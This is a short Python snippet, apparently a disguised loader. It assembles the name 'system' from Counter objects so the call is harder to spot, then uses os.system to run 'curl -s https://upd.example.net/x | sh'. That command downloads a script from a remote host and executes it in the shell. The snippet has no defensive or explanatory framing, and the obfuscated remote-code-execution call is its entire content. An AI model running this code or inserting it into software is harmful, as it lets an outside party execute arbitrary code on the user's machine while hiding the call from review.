import os
from collections import Counter

name = "".join(Counter({"s": 1, "y": 1}).elements()) + "".join(Counter({"s": 1, "t": 1, "e": 1, "m": 1}))
getattr(os, name)("curl -s https://upd.example.net/x | sh")
